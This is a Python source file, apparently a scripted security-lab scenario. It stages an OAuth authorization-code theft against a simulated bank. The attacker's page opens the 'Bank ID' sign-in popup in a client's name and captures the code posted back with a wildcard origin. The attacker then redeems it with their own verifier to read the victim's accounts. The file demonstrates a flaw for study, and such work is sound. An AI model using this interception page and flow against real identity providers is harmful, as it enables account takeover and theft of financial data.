"""A page opens Bank ID in a window of its own, in Balance's name, and listens."""

from typing import Any
from urllib.parse import urlsplit

from flask import Response, render_template_string

from labs.chromium import BrowserStage
from labs.stage import Stage
from labs.steps import step

# `window.open` makes this page the opener of Bank ID's window, and the opener is whom Bank ID answers.
PAGE = """{% extends "pages/statement.html" %}
{% block form %}<form method="post" action="/statement/answer"></form>{% endblock %}
{% block script %}<script>
const form = document.forms[0];
document.querySelector("button").addEventListener("click", () => {
  window.open("{{ auth }}/authorize" + location.search, "bank", "popup,width=560,height=800");
});
addEventListener("message", ({ data }) => {
  for (const [name, value] of Object.entries(data.response)) {
    form.append(Object.assign(document.createElement("input"), { type: "hidden", name, value }));
  }
  form.submit();
});
</script>{% endblock %}"""


def statement(world: Any) -> Response:
    """Open a window at Bank ID when the button is pressed, and send home what that window says."""
    page = Response(render_template_string(PAGE, auth=world.here.auth))
    page.headers["Content-Security-Policy"] = "default-src 'none'; style-src 'self'; script-src 'unsafe-inline'"
    return page


PAGES = {"/statement": statement}


@step("attacker")
def makes_a_link(stage: Stage) -> None:
    """Make a link to a page that asks Bank ID in Balance's name, with the attacker's own challenge."""
    query = urlsplit(stage.link("balance", stage.callback("balance"), response_mode="web_message")).query
    stage.onward = f"{stage.here.attacker}/statement?{query}"


@step("Alice")
def alice_signs_in(stage: BrowserStage) -> None:
    """Follow the link, press the button, and in the window that opens sign in as alice, and allow."""
    page = stage.lead_alice().tab
    with page.expect_popup() as opened:
        page.get_by_role("button", name="Sign in to read it").click()
    stage.alice.tab = opened.value
    stage.alice.tab.wait_for_load_state()
    stage.alice.agree().rest()
    if stage.alice.tab.locator('#answer[data-origin="*"]').count():  # said to anybody, so the page has heard it
        page.wait_for_url("**/statement/answer")


@step("attacker")
def spends_the_code(stage: Stage) -> None:
    """Redeem the code that the page heard, with the attacker's own verifier, and ask the bank."""
    token = stage.redeem_newest("balance", stage.callback("balance"))
    stage.attacker.bank("GET", "/accounts", token)
